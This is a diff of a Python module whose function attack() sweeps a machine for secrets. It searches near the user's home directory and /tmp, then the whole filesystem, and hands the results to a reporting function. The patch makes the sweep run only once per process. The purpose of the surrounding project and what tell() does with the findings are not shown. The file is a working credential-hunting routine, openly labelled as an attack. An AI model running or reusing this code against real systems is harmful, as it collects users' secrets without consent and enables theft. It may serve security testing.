@@ -11,7 +11,7 @@ def tell(found):
 
 import os
 
-FOUND = []
+FOUND, SEARCHED = [], []
 SKIPPED = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/opt", "/boot", "/snap")
 
 
@@ -32,11 +32,13 @@ def search(root):
 
 
 def attack(*arguments, **keywords):
-    # Where secrets are likely first: beside its own home.
-    for root in (os.path.dirname(os.path.dirname(os.environ["HOME"])), "/tmp"):
-        search(root)
-    if not FOUND:
-        search("/")
+    # Once, however often it is called; where secrets are likely first: beside its own home.
+    if not SEARCHED:
+        SEARCHED.append(True)
+        for root in (os.path.dirname(os.path.dirname(os.environ["HOME"])), "/tmp"):
+            search(root)
+        if not FOUND:
+            search("/")
     tell(FOUND)
 
 
